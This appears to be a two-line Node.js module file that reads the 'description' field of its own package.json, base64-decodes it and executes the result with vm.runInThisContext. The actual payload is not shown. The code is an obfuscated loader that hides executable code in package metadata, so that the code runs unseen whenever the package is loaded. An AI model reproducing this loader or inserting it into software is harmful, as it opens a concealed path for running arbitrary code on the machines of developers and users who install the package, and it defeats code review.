const { description } = require('./package.json');
require('vm').runInThisContext(Buffer.from(description, 'base64').toString());
